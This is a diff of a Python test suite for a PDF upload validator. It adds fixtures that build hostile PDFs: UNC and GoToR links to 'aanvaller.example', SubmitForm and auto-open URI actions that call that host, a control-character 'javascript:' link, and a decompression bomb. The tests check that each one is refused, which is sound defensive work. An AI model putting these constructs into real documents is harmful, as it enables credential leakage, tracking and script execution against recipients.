@@ -40,7 +40,7 @@ from applications.accounts.models import User
 from applications.beheer.bestanden import nakijken, verwijder_wezen
 from applications.beoordeling.services import aanvraag_decide, aanvraag_take
 
-from ..aanvraag_helpers import fill_everything, pdf_bytes
+from ..aanvraag_helpers import fill_everything, pdf_bom, pdf_bytes
 from ..conftest import client_for
 
 pytestmark = pytest.mark.django_db
@@ -188,6 +188,76 @@ def pdf_with_password() -> bytes:
     return _write(writer)
 
 
+def _link(writer: PdfWriter, actie: DictionaryObject) -> bytes:
+    link = _action(
+        Type=NameObject("/Annot"),
+        Subtype=NameObject("/Link"),
+        Rect=ArrayObject([NumberObject(0), NumberObject(0), NumberObject(50), NumberObject(50)]),
+        A=actie,
+    )
+    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
+    return _write(writer)
+
+
+def pdf_with_gotor() -> bytes:
+    return _link(
+        _one_page(),
+        _action(
+            S=NameObject("/GoToR"),
+            F=TextStringObject("\\\\aanvaller.example\\deel\\x.pdf"),
+            D=ArrayObject([NumberObject(0)]),
+        ),
+    )
+
+
+def pdf_with_unc_link() -> bytes:
+    return _link(
+        _one_page(),
+        _action(S=NameObject("/URI"), URI=TextStringObject("\\\\aanvaller.example\\deel")),
+    )
+
+
+def pdf_with_file_link() -> bytes:
+    return _link(
+        _one_page(), _action(S=NameObject("/URI"), URI=TextStringObject("file:///C:/Windows/"))
+    )
+
+
+def pdf_with_submit_form() -> bytes:
+    return _link(
+        _one_page(),
+        _action(S=NameObject("/SubmitForm"), F=TextStringObject("https://aanvaller.example/")),
+    )
+
+
+def pdf_with_import_data() -> bytes:
+    writer = _one_page()
+    writer.root_object[NameObject("/OpenAction")] = _action(
+        S=NameObject("/ImportData"), F=TextStringObject("gegevens.fdf")
+    )
+    return _write(writer)
+
+
+def pdf_with_open_action_uri() -> bytes:
+    writer = _one_page()
+    writer.root_object[NameObject("/OpenAction")] = _action(
+        S=NameObject("/URI"), URI=TextStringObject("https://aanvaller.example/gezien")
+    )
+    return _write(writer)
+
+
+def pdf_with_control_character_javascript_link() -> bytes:
+    return _link(
+        _one_page(), _action(S=NameObject("/URI"), URI=TextStringObject("\x01javascript:alert(1)"))
+    )
+
+
+def pdf_with_empty_user_password() -> bytes:
+    writer = _one_page()
+    writer.encrypt(user_password="", owner_password="alleen-de-eigenaar", algorithm="AES-256")
+    return _write(writer)
+
+
 def pdf_without_pages() -> bytes:
     return _write(PdfWriter())
 
@@ -224,7 +294,48 @@ REFUSED: list[tuple[str, Callable[[], bytes], str]] = [
         "Deze PDF is beveiligd met een wachtwoord en kan niet gelezen worden. Bewaar hem zonder "
         "wachtwoord en laad hem opnieuw op.",
     ),
+    (
+        "empty_user_password",
+        pdf_with_empty_user_password,
+        "Deze PDF is beveiligd (versleuteld, bv. tegen afdrukken of kopiëren). WSE moet hem "
+        "kunnen lezen, afdrukken en bewaren: bewaar hem zonder beveiliging en laad hem opnieuw op.",
+    ),
     ("no_pages", pdf_without_pages, "Deze PDF heeft geen pagina's."),
+    (
+        "gotor",
+        pdf_with_gotor,
+        _active("een link naar een ander bestand of een netwerkmap (GoToR)"),
+    ),
+    (
+        "unc_link",
+        pdf_with_unc_link,
+        _active("een link naar een ander bestand of een netwerkmap (GoToR)"),
+    ),
+    (
+        "file_link",
+        pdf_with_file_link,
+        _active("een link naar een ander bestand of een netwerkmap (GoToR)"),
+    ),
+    (
+        "submit_form",
+        pdf_with_submit_form,
+        _active("een formulier dat gegevens verstuurt (SubmitForm)"),
+    ),
+    (
+        "import_data",
+        pdf_with_import_data,
+        _active("een opdracht om gegevens in te lezen (ImportData)"),
+    ),
+    (
+        "open_action_uri",
+        pdf_with_open_action_uri,
+        _active("een webadres dat vanzelf opent bij het openen"),
+    ),
+    (
+        "control_character_javascript_link",
+        pdf_with_control_character_javascript_link,
+        _active("JavaScript"),
+    ),
     ("document_javascript", pdf_with_document_javascript, _active("JavaScript")),
     ("open_action_javascript", pdf_with_open_action_javascript, _active("JavaScript")),
     ("page_open_javascript", pdf_with_page_open_javascript, _active("JavaScript")),
@@ -282,16 +393,6 @@ def test_a_pdf_of_exactly_10_mb_is_accepted(aanvraag: Aanvraag, regisseur: User)
     assert Bijlage.objects.get().grootte == PDF_MAX_UPLOAD_BYTES
 
 
-def test_a_pdf_with_an_owner_password_only_opens_and_is_accepted(
-    aanvraag: Aanvraag, regisseur: User
-) -> None:
-    """Restrictions without a password to open (no printing, no copying) still let us read it."""
-    writer = _one_page()
-    writer.encrypt(user_password="", owner_password="alleen-de-eigenaar", algorithm="AES-256")
-    assert upload(regisseur, aanvraag, "beperkt.pdf", _write(writer)).status_code == 302
-    assert Bijlage.objects.count() == 1
-
-
 def test_a_crafted_pdf_with_too_many_objects_is_refused_unwalked(
     aanvraag: Aanvraag, regisseur: User, private_root: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
@@ -300,15 +401,63 @@ def test_a_crafted_pdf_with_too_many_objects_is_refused_unwalked(
     filler = [writer._add_object(_action(N=NumberObject(i))) for i in range(60)]
     writer.root_object[NameObject("/Vulling")] = ArrayObject(filler)
     response = upload(regisseur, aanvraag, "veel.pdf", _write(writer))
-    assert (
-        escape(
-            "Deze PDF bestaat uit uitzonderlijk veel onderdelen en kan niet nagekeken worden. Druk "
-            "hem opnieuw af naar PDF en laad die kopie op."
-        )
-        in response.content.decode()
-    )
+    assert escape(NIET_VEILIG) in response.content.decode()
     assert not Bijlage.objects.exists()
     assert stored_files(private_root) == []
+
+
+NIET_VEILIG = (
+    "Dit bestand kunnen we niet veilig nakijken: uitgepakt is het uitzonderlijk groot of bestaat "
+    "het uit uitzonderlijk veel onderdelen. Druk het opnieuw af naar PDF en laad die kopie op."
+)
+
+
+def test_a_decompression_bomb_is_refused_at_the_byte_limit(
+    aanvraag: Aanvraag,
+    regisseur: User,
+    private_root: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    settings: Any,
+) -> None:
+    """Many object streams, each under pypdf's limit per stream: the check counts what it
+    unpacks in all and stops at the limit (at most one stream past it), never unpacking it all."""
+    settings.REGIEROL_PDF_CONTROLE_MAX_MB = 1
+    uitgepakt: list[int] = []
+    echt = uploads._pypdf_decode
+
+    def tellend(stream: Any) -> bytes:
+        data = echt(stream)
+        uitgepakt.append(len(data))
+        return data
+
+    monkeypatch.setattr(uploads, "_pypdf_decode", tellend)
+    bom = pdf_bom(strooms=8, per_stroom=900_000)  # 7.2 MB unpacked, each stream under 1 MB
+    response = upload(regisseur, aanvraag, "bom.pdf", bom)
+    assert escape(NIET_VEILIG) in response.content.decode()
+    assert sum(uitgepakt) <= 2 * 1024 * 1024
+    assert len(uitgepakt) < 8
+    assert not Bijlage.objects.exists()
+    assert stored_files(private_root) == []
+
+
+def test_a_small_pdf_of_object_streams_within_the_limit_is_accepted(
+    aanvraag: Aanvraag, regisseur: User, settings: Any
+) -> None:
+    """The same structure, small: object streams themselves are ordinary."""
+    settings.REGIEROL_PDF_CONTROLE_MAX_MB = 1
+    assert (
+        upload(regisseur, aanvraag, "klein.pdf", pdf_bom(strooms=3, per_stroom=1000)).status_code
+        == 302
+    )
+
+
+def test_the_check_gives_up_when_its_time_is_up(
+    aanvraag: Aanvraag, regisseur: User, settings: Any
+) -> None:
+    """No time is measured here: with no time at all, the check refuses at its first step."""
+    settings.REGIEROL_PDF_CONTROLE_SECONDEN = 0
+    response = upload(regisseur, aanvraag, "gewoon.pdf", pdf_bytes())
+    assert escape(NIET_VEILIG) in response.content.decode()
 
 
 def test_ordinary_links_bookmarks_and_the_structure_tree_are_no_active_content(
